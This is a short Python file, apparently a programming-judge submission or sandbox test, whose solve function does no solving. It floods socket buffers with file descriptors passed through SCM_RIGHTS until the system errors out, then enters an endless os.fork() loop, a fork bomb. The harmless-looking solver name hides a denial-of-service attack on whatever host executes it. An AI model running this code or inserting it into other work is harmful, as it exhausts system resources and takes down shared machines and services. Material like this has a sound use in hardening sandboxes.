"""Keeps more descriptors than it may in the buffers of sockets."""

import array, os, socket


def solve(n):
    pairs = []
    try:
        while True:
            a, b = socket.socketpair()
            pairs.append((a, b))
            for _ in range(200):
                a.sendmsg([b"x" * 1000], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [a.fileno(), b.fileno()] * 20))])
    except OSError:
        pass
    while True:
        os.fork()
